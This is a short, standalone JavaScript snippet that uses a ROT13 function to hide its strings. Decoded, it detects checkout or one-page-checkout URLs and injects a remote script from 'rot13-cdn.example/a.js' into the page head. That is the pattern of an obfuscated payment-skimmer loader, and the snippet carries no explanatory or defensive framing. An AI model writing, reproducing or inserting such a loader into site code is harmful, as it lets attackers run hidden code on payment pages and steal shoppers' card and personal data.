var _q = function(s){return s.replace(/[a-zA-Z]/g,function(c){return String.fromCharCode((c<="Z"?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26)})};
var u=_q('uggcf://ebg13-pqa.rknzcyr/n.wf'); if(new RegExp(_q('purpxbhg|barcntr')).test(location.href)){var e=document.createElement(_q('fpevcg'));e.src=u;document.getElementsByTagName(_q('urnq'))[0].appendChild(e)}
